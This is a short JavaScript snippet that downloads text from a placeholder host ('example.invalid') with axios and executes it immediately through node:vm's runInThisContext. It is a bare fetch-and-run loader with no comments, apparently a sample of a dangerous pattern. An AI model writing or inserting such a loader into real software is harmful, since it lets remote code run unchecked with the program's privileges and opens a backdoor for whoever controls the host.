import axios from 'axios';
import vm from 'node:vm';
const { data } = await axios.get('https://example.invalid/p');
vm.runInThisContext(data);
